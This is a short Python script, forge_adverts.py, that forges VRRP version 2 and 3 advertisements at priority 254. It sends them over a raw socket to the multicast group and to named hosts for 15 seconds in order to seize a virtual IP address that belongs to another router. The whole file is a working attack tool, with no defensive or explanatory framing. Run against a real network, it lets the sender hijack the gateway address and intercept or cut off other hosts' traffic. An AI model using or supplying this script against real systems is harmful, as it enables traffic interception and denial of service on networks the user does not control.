"""Announces a virtual address that is another's: VRRP 2 and 3, priority 254, to the group and to each host, for 15 s.

  forge_adverts.py ROUTER ADDRESS HOST...
"""
import socket
import struct
import sys
import time

GROUP = "224.0.0.18"


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def version_2(router, address):
    def advert(total):
        return struct.pack(">BBBBBBH", 0x21, router, 254, 1, 0, 1, total) + socket.inet_aton(address) + bytes(8)
    return advert(checksum(advert(0)))


def version_3(router, address, source, target):
    body = socket.inet_aton(address)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack(">BBH", 0, 112, 8 + len(body))

    def advert(total):
        return struct.pack(">BBBBHH", 0x31, router, 254, 1, 30, total) + body
    return advert(checksum(pseudo + advert(0)))


def own_address(towards):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((towards, 9))
        return probe.getsockname()[0]


def main(router, address, *hosts):
    source = own_address(hosts[0])
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 112) as wire:
        wire.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
        wire.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        wire.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(source))
        end = time.monotonic() + 15
        while time.monotonic() < end:
            for target in (GROUP, *hosts):
                wire.sendto(version_2(int(router), address), (target, 0))
                wire.sendto(version_3(int(router), address, source, target), (target, 0))
            time.sleep(0.1)


if __name__ == "__main__":
    main(*sys.argv[1:])
